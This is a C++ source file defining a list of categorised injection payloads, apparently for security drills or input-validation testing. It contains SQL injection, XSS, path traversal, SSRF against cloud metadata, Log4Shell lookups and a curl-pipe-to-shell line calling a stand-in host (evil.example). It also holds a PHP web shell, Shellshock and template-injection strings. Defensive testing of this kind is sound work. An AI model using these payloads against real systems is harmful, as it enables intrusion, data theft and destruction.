#include "backend/drill/payloads.h"

#include <array>

namespace sallyport::drill {
namespace {

constexpr auto all = std::to_array<Payload>({
    {"sql", "'; DROP TABLE users; --"},
    {"sql", "1' OR '1'='1' -- "},
    {"sql", "1 UNION ALL SELECT name, password FROM users"},
    {"sql", "1' AND SLEEP(5) AND 'a'='a"},
    {"nosql", R"({"$gt": ""})"},
    {"nosql", R"({"$where": "this.password.length > 0"})"},
    {"script", "<script>alert(document.cookie)</script>"},
    {"script", "<img src=x onerror=alert(1)>"},
    {"script", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>"},
    {"traversal", "../../../../etc/passwd"},
    {"traversal", "..%252f..%252f..%252fwindows%252fwin.ini"},
    {"traversal", "php://filter/convert.base64-encode/resource=index"},
    {"command", "; cat /etc/passwd"},
    {"command", "$(curl http://evil.example/x | sh)"},
    {"command", "| powershell -enc SQBFAFgA"},
    {"template", "{{7*7}}{{config.__class__.__init__.__globals__}}"},
    {"template", "${T(java.lang.Runtime).getRuntime().exec('id')}"},
    {"code", "<?php system($_GET['c']); ?>"},
    {"code", "__import__('os').system('id')"},
    {"xml", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"},
    {"ldap", "*)(uid=*))(|(uid=*"},
    {"xpath", "' or count(parent::*[position()=1])=0 or 'a'='b"},
    {"ssrf", "http://169.254.169.254/latest/meta-data/iam/"},
    {"ssrf", "gopher://127.0.0.1:6379/_FLUSHALL"},
    {"header", "x%0d%0aSet-Cookie: admin=1"},
    {"log4shell", "${jndi:ldap://evil.example/a}"},
    {"log4shell", "${${lower:j}ndi:${lower:l}dap://evil.example/a}"},
    {"shellshock", "() { :;}; /bin/bash -c 'id'"},
    {"prototype", R"({"__proto__": {"isAdmin": true}})"},
    {"ssi", "<!--#exec cmd=\"ls /\" -->"},
});

} // namespace

std::span<const Payload> payloads() noexcept
{
    return all;
}

} // namespace sallyport::drill
